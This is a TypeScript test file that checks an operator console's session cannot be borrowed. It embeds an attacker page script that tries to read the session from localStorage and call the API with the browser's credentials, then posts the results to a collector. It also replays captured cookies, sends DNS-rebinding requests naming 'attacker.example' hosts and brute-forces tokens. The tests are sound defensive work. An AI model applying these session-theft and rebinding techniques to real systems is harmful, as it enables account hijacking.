/**
 * The console's session cannot be borrowed (issue 28, point 6), tried as an attacker would:
 * another program on 127.0.0.1 that the signed-in browser visits (cookies ignore ports), a
 * page whose DNS name was rebound to 127.0.0.1 (a foreign Host, raw HTTP), a program hammering
 * bad tokens on the same address, and a session kept past its expiry.
 */
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import { connect } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { SESSION_TTL_MS } from "../../src/console/auth";
import { OperatorConsole } from "../../src/console/console";
import { startHttpServer } from "../../src/http/server";
import { captureLogger } from "../support/log-capture";
import { consoleRig, pageSession } from "./rig";

const TOKEN = "console-session-token-0123456789";
const rig = consoleRig(TOKEN);

/** What the attacker's local server saw: every request's headers, and what its page reported. */
interface Loot {
  readonly requests: IncomingHttpHeaders[];
  readonly reports: string[];
}

/**
 * Another program on 127.0.0.1 (another port): it logs what the browser sends it and serves a
 * page that tries to read the console's session and to call the console's API from there.
 */
async function attackerServer(consoleBase: string): Promise<{ url: string; loot: Loot; server: Server }> {
  const loot: Loot = { requests: [], reports: [] };
  const page = `<!doctype html><script>
    (async () => {
      const report = (what) => fetch("/report", { method: "POST", body: String(what) });
      try { await report("storage:" + (localStorage.getItem("console-session") ?? "none")); } catch (e) { await report("storage:error"); }
      try {
        const res = await fetch(${JSON.stringify(consoleBase)} + "/console/api/personas", { credentials: "include" });
        await report("api:" + res.status + ":" + (await res.text()));
      } catch (e) { await report("api:blocked"); }
    })();
  </script>`;
  const server = createServer((req, res) => {
    loot.requests.push(req.headers);
    if (req.method === "POST" && req.url === "/report") {
      let body = "";
      req.on("data", (c) => (body += String(c)));
      req.on("end", () => {
        loot.reports.push(body);
        res.end("ok");
      });
      return;
    }
    res.writeHead(200, { "content-type": "text/html" }).end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const port = (server.address() as { port: number }).port;
  return { url: `http://127.0.0.1:${port}/console/`, loot, server };
}

/** One raw HTTP/1.1 GET with exactly the Host given; the status code. */
function rawGet(port: number, path: string, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, "127.0.0.1", () =>
      socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`),
    );
    let data = "";
    socket.on("data", (c) => (data += String(c)));
    socket.on("end", () => resolve(Number(/^HTTP\/1\.1 (\d{3})/.exec(data)?.[1] ?? 0)));
    socket.on("error", reject);
  });
}

let stop: (() => Promise<void>) | undefined;
afterEach(async () => {
  const s = stop;
  stop = undefined;
  await s?.();
});

describe("the console's session cannot be borrowed", () => {
  it("another local program the signed-in browser visits gets nothing it can replay", async () => {
    const { page, base } = await open();
    const attacker = await attackerServer(base);
    // The browser's tab keeps a keep-alive connection to it: close that too, or close() waits for it.
    stop = () =>
      new Promise((resolve) => {
        attacker.server.close(() => resolve());
        attacker.server.closeAllConnections();
      });
    // The signed-in browser visits the other program (a link, a redirect, a local dev server).
    const tab = await page.context().newPage();
    await tab.goto(attacker.url);
    await expect.poll(() => attacker.loot.reports.length, { timeout: 10_000 }).toBe(2);
    // Its page could not read the console's session (another origin's storage)…
    expect(attacker.loot.reports[0]).toBe("storage:none");
    // …nor call the console's API with the browser's credentials.
    expect(attacker.loot.reports[1]).not.toContain("Mira");
    // What the browser sent it, replayed to the console, opens nothing.
    const sent = attacker.loot.requests.map((h) => h.cookie ?? "").filter((c) => c !== "");
    for (const cookie of [...sent, ""]) {
      const replay = await fetch(`${base}/console/api/personas`, { headers: { cookie } });
      expect(replay.status).toBe(401);
      expect(await replay.text()).not.toContain("Mira");
    }
    // The console's own page still works with the session only it holds.
    const session = await pageSession(page);
    expect(session).not.toBe("");
    expect(sent.join(";")).not.toContain(session);
    const own = await fetch(`${base}/console/api/personas`, { headers: { "x-console-session": session } });
    expect(own.status).toBe(200);
  }, 60_000);

  it("a request naming another host (DNS rebinding) gets nothing on any route, raw HTTP", async () => {
    const { base } = await open();
    const port = Number(new URL(base).port);
    for (const path of [
      "/metrics",
      "/readyz",
      "/healthz",
      "/console/",
      "/console/app.js",
      "/console/api/personas",
    ]) {
      expect(await rawGet(port, path, `rebound.attacker.example:${port}`), path).toBe(421);
      // The right name on another port (a page on another local server naming this one) too.
      expect(await rawGet(port, path, `localhost:${port + 1}`), path).toBe(421);
      expect(await rawGet(port, path, `127.0.0.1.attacker.example:${port}`), path).toBe(421);
    }
    expect(await rawGet(port, "/metrics", `127.0.0.1:${port}`)).toBe(200);
    expect(await rawGet(port, "/metrics", `localhost:${port}`)).toBe(200);
    expect(await rawGet(port, "/console/", `[::1]:${port}`)).toBe(200);
  }, 60_000);

  it("bad tokens from the same address slow the attacker, never the signed-in page nor the right token", async () => {
    const { page, base } = await open();
    const session = await pageSession(page);
    const tries: number[] = [];
    for (let i = 0; i < 15; i++) {
      const res = await fetch(`${base}/console/api/session`, {
        method: "POST",
        headers: { origin: base, "content-type": "application/json" },
        body: JSON.stringify({ token: `guess-${i}-0123456789abcdef` }),
      });
      tries.push(res.status);
    }
    expect(tries.slice(0, 10)).toEqual(Array(10).fill(401));
    expect(tries.slice(10)).toEqual(Array(5).fill(429));
    // A forged session is refused as slowly; the operator's right token still signs in (issue 36:
    // another local program's wrong tokens never lock the operator out).
    const forged = await fetch(`${base}/console/api/personas`, {
      headers: { "x-console-session": `${session.split(".").slice(0, 2).join(".")}.AAAA` },
    });
    expect(forged.status).toBe(429);
    const right = await fetch(`${base}/console/api/session`, {
      method: "POST",
      headers: { origin: base, "content-type": "application/json" },
      body: JSON.stringify({ token: TOKEN }),
    });
    expect(right.status).toBe(200);
    expect(((await right.json()) as { session?: unknown }).session).toEqual(expect.any(String));
    const wrong = await fetch(`${base}/console/api/session`, {
      method: "POST",
      headers: { origin: base, "content-type": "application/json" },
      body: JSON.stringify({ token: "guess-again-0123456789abcdef" }),
    });
    expect(wrong.status).toBe(429);
    // The page, from the same 127.0.0.1, goes on as if nothing happened: its API calls and a change.
    const own = await fetch(`${base}/console/api/personas`, { headers: { "x-console-session": session } });
    expect(own.status).toBe(200);
    await page.goto(`${base}/console/#personas`);
    await page.locator("#main h2").first().waitFor();
    expect(await page.locator("#main").textContent()).toContain("Mira");
  }, 60_000);

  it("a session ends 7 days after its last use; one in use is renewed", async () => {
    // A console of its own whose time the test moves (no persona needed to be signed in or out).
    let now = Date.UTC(2026, 10, 22, 12);
    const con = new OperatorConsole({ token: TOKEN, now: () => now });
    const http = await startHttpServer({
      port: 0,
      host: "127.0.0.1",
      logger: captureLogger().logger,
      plugins: [con.plugin],
    });
    stop = () => http.close();
    const base = http.url;
    const signIn = await fetch(`${base}/console/api/session`, {
      method: "POST",
      headers: { origin: base, "content-type": "application/json" },
      body: JSON.stringify({ token: TOKEN }),
    });
    const first = ((await signIn.json()) as { session: string }).session;
    const call = (session: string) =>
      fetch(`${base}/console/api/personas`, { headers: { "x-console-session": session } });
    // Within the first day: good, not renewed.
    now += 3_600_000;
    const fresh = await call(first);
    expect(fresh.status).toBe(200);
    expect(fresh.headers.get("x-console-session")).toBeNull();
    // Six days on, still good, and the answer carries a renewed session.
    now += 6 * 24 * 3_600_000 - 3_600_000;
    const used = await call(first);
    expect(used.status).toBe(200);
    const renewed = used.headers.get("x-console-session");
    expect(renewed).toBeTruthy();
    expect(renewed).not.toBe(first);
    // Past the first one's expiry: it is refused, the renewed one still opens the console.
    now += SESSION_TTL_MS - 6 * 24 * 3_600_000 + 1000;
    const old = await call(first);
    expect(old.status).toBe(401);
    expect(await old.text()).toContain("expired");
    expect((await call(renewed!)).status).toBe(200);
    // A session with a made-up signature opens nothing.
    const alien = `${renewed!.split(".").slice(0, 2).join(".")}.${"A".repeat(43)}`;
    expect((await call(alien)).status).toBe(401);
  }, 30_000);
});

const open = () => rig.open();
